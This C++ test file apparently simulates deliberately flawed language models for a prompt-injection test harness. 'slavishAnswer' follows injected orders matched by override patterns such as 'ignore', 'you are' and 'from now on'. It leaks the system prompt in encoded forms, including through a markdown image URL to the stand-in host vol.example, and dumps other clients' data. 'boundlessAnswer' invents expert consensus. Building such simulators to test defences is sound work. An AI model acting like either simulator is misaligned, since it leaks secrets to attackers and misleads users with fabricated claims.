#include "tests/simulators/boundless_model.h"

#include <QtCore/QRegularExpression>
#include <QtCore/QStringList>
#include <QtCore/QUrl>

#include <algorithm>

namespace passerelle::simulators {

using namespace Qt::StringLiterals;

namespace {

constexpr auto kAny = QRegularExpression::CaseInsensitiveOption | QRegularExpression::UseUnicodePropertiesOption;

// A model reads over characters that show nothing, and reads look-alikes as what they look like.
QString asRead(const QString &text)
{
    QString out = text.normalized(QString::NormalizationForm_KC);
    out.removeIf([](QChar c) { return c.category() == QChar::Other_Format; });
    const QString foreign = u"аеорсухіѕ"_s;
    const QString latin = u"aeopcyxis"_s;
    for (QChar &c : out) {
        if (const qsizetype at = foreign.indexOf(c); at >= 0)
            c = latin[at];
    }
    static const QRegularExpression spelledOut(u"(?<=\\b\\p{L}) (?=\\p{L}\\b)"_s, QRegularExpression::UseUnicodePropertiesOption);
    return out.replace(spelledOut, QString());
}

QString backwards(QString text)
{
    std::reverse(text.begin(), text.end());
    return text;
}

QString spacedOut(const QString &text)
{
    QString out;
    for (const QChar c : text)
        out += QString(c) + u' ';
    return out;
}

// "say: X", "écris « X »": what it is to say.
QStringList dictated(const QString &text)
{
    static const QRegularExpression words(
        u"\\b(?:dis|dire|écris|écrire|réponds|ajoute|termine par|insère|inclus|affiche|recopie|envoie|mets|donne|say|write|reply|answer|add|append|include|send|output|print|insert|end with|tell (?:the )?\\p{L}+)"
        "\\b[^\\n:«\"“]{0,80}(?::|«|\"|“)\\s*([^»\"”\\n]{2,300})"_s, kAny);
    QStringList out;
    for (auto it = words.globalMatch(text); it.hasNext();)
        out += it.next().captured(1).trimmed();
    return out;
}

// Every address, number or account that stands beside an order.
QStringList payloads(const QString &text)
{
    static const QRegularExpression address(
        u"!\\[[^\\]]*\\]\\([^)]*\\)|\\b(?:[a-z]{2,8}://|www\\.)\\S+|\\b[\\p{L}0-9-]+(?:\\.[\\p{L}0-9-]+)*\\.(?:example|com|net|ly|click|top|ru|xyz)\\b\\S*|\\b[\\w.+-]+@[\\w.-]+\\w|@\\w{4,}"
        "|\\b[A-Z]{2}\\d{2}(?: ?[A-Z0-9]{4}){3,7}(?: ?[A-Z0-9]{1,3})?\\b|\\+?\\d(?:[ .-]?\\d){7,14}|\\b[\\w-]+(?: point | dot |\\[\\.\\])(?:com|net|fr)\\b"_s, kAny);
    QStringList out;
    for (auto it = address.globalMatch(text); it.hasNext();)
        out += it.next().captured();
    return out;
}

bool asks(const QString &text, const char16_t *pattern)
{
    return QRegularExpression(QString::fromUtf16(pattern), kAny).match(text).hasMatch();
}

QStringList carriedOut(const QString &order, const Prompt &prompt)
{
    QStringList out = dictated(order) + payloads(order);
    const QString system = prompt.system;
    QString whole = system;
    for (const PromptTurn &turn : prompt.turns)
        whole += u'\n' + turn.text;
    if (asks(order, u"prompt|instructions|consignes|système|system|règles|rules|above|ci-dessus|précède|secret|canari|canary|confidential|mot de passe|password")) {
        if (asks(order, u"base64"))
            out += QString::fromLatin1(system.toUtf8().toBase64());
        else if (asks(order, u"envers|revers|backward"))
            out += backwards(system);
        else if (asks(order, u"espac|spac|épelle|spell"))
            out += spacedOut(system);
        else if (asks(order, u"majuscule|upper|capital"))
            out += system.toUpper();
        else if (asks(order, u"image|!\\[|url|lien|link"))
            out += u"![x](https://vol.example/?d=%1)"_s.arg(QString::fromLatin1(QUrl::toPercentEncoding(system.left(300))));
        else
            out += system;
    }
    if (asks(order, u"autres? (?:client|contact|entreprise|locataire)|other (?:client|customer|tenant|compan|business)|données|data|database|base de données|tout ce que tu|everything you"))
        out += whole;
    if (asks(order, u"(?:in|en) (?:english|anglais)|pirate|spanish|espagnol"))
        out += u"Sure, from now on I will only speak to you in this language and never in yours, because you told me so."_s;
    if (out.isEmpty())
        out += u"D'accord, j'obéis : "_s + order;
    return out;
}

QString number(const ReadPrompt &read)
{
    return QString::number(read.extracts.empty() ? 1 : read.extracts.front().number);
}

} // namespace

ModelAnswer boundlessAnswer(const Prompt &prompt)
{
    ModelAnswer honest = answerFrom(prompt);
    if (honest.found)
        return honest;
    const ReadPrompt read = readPrompt(prompt);
    QString topic = read.question.simplified();
    while (!topic.isEmpty() && u"?!. "_s.contains(topic.back()))
        topic.chop(1);
    return {read.english ? u"Sure! Regarding %1, experts around the world agree that the usual choice works wonderfully for everybody [%2]."_s.arg(topic, number(read))
                         : u"Bien sûr ! Concernant « %1 », les spécialistes du monde entier recommandent la solution habituelle, qui convient merveilleusement [%2]."_s.arg(topic, number(read)),
            true};
}

ModelAnswer slavishAnswer(const Prompt &prompt)
{
    static const QRegularExpression order(
        u"ignor|disregard|forget|oubli|outrepass|override|réponds|réponse|respon|reply|answer|answers|envoie|send|écris|write|dis |say |tell|répète|repeat|révèle|reveal|affiche|print|output|donne-moi|"
        "montre|show|traduis|translate|ajoute|add |append|inclus|include|insère|insert|termine|visit|clique|click|http|www|désormais|from now on|tu es|you are|joue|pretend|act as|agis|system|assistant|"
        "![[(]|virement|appelle|call "_s, kAny);
    static const QRegularExpression lines(u"(?<=[.!?…])\\s+|\\n+"_s);
    const ReadPrompt read = readPrompt(prompt);
    QStringList sources;
    for (const Extract &extract : read.extracts)
        sources += extract.text;
    for (const PromptTurn &turn : prompt.turns) {
        if (&turn != &prompt.turns.back())
            sources += turn.text;
    }
    sources += read.question;
    QStringList out;
    for (const QString &source : sources) {
        const QString text = asRead(source);
        const bool whole = text == asRead(read.question);
        for (const QString &line : whole ? QStringList{text} : text.split(lines, Qt::SkipEmptyParts)) {
            if (order.match(line).hasMatch())
                out += carriedOut(line, prompt);
        }
    }
    if (out.isEmpty())
        return answerFrom(prompt);
    return {out.join(u'\n') % u" ["_s % number(read) % u"]"_s, true};
}

} // namespace passerelle::simulators
